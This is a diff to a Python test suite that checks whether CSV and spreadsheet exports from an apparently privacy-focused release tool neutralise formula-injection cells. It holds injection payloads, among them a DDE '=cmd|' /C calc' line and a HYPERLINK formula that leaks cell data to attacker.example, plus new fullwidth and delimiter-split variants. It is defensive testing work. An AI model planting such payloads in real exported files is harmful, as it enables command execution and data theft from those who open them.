@@ -17,12 +17,13 @@ from hypothesis import strategies as st
 from core import Budget, Desk, Domain, Marginals, Unit
 from core.kernel.query import Query
 from core.release import release as release_module
-from core.release.release import neutral, plain, to_csv
+from core.release import spreadsheet
+from core.release.spreadsheet import neutral, plain, to_csv
 from core.schema.domain import Booleans, Categories, Integers
 from core.sessions import answer as session_answer
-from dashboard.views.budget import ledger_view
+from dashboard.views.budget import spend_list
 
-STARTS = ("=", "+", "-", "@", "\t", "\r")
+STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 PAYLOADS = (
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://attacker.example?leak="&A1)',
@@ -33,6 +34,12 @@ PAYLOADS = (
     "''",
     "=1,2\n=3",
     '"=1+1"',
+    "x;=1+1",
+    'x;"=1+1',
+    "x\t@SUM(1)",
+    "＝1+1",
+    "－2+3;＠SUM(1)",
+    "x;'quoted",
 )
 NAME, OTHER_NAME = "=1+cmd|' /C calc'!A0", "-ill"
 DOMAIN = Domain(
@@ -46,9 +53,14 @@ WORDS = ("=1+1", "\t=1+1", "+1", "-rows older than 1", "@rows", "'=1", "plain wo
 
 
 def starts_formula(content: bytes) -> list[str]:
-    """Cells of a CSV file that are no numbers and begin as a formula does."""
-    cells = [cell for line in csv.reader(io.StringIO(content.decode(), newline="")) for cell in line]
+    """Cells of a CSV file that are no numbers and begin as a formula does: as the file is meant, and to a program that
+    splits at semicolons, or at tabs, and takes quotes in the middle of a cell for letters."""
+    text = content.decode()
+    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
     assert len(cells) > 1
+    for separator in (";", "\t"):
+        cells += [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in line]
+        cells += [part.lstrip('" ') for line in text.splitlines() for part in line.split(separator)[1:]]
     return [cell for cell in cells if cell.startswith(STARTS) and not _number(cell)]
 
 
@@ -87,7 +99,7 @@ def downloads(desk: Desk) -> dict[str, bytes]:
         "CSV": release.csv(),
         "Noisy tables": release.tables_csv(),
         "transcript": session.transcript_csv(),
-        "ledger": ledger_view.export(desk, statement, {held.id: held}),
+        "ledger": spend_list.export(desk, statement, {held.id: held}),
     }
     with zipfile.ZipFile(io.BytesIO(release.zip())) as archive:
         found |= {name: archive.read(name) for name in archive.namelist() if name.endswith((".csv", ".tsv"))}
@@ -123,8 +135,10 @@ def only_equals(frame: pd.DataFrame) -> bytes:
 def test_a_careless_writer_is_caught(
     desk: Desk, monkeypatch: pytest.MonkeyPatch, mutant: Callable[[pd.DataFrame], bytes]
 ) -> None:
-    for module in (release_module, session_answer, ledger_view):
+    for module in (release_module, session_answer, spend_list):
         monkeypatch.setattr(module, "to_csv", mutant)
+    if mutant is careless:
+        monkeypatch.setattr(spreadsheet, "neutral", lambda value: value)
     found = downloads(desk)
     caught = {name for name, content in found.items() if starts_formula(content)}
     assert "CSV" in caught
@@ -157,7 +171,7 @@ def comes_back(values: list[str], name: str) -> None:
     assert [plain(line[0]) for line in lines[1:]] == values
 
 
-PLAIN = "=+-@\t\n'\" ,;|ab1"
+PLAIN = "=+-@\t\n'\" ,;|ab1＝"
 
 
 @given(values=st.lists(texts(PLAIN), min_size=1, max_size=8), name=texts(PLAIN).filter(str.strip))
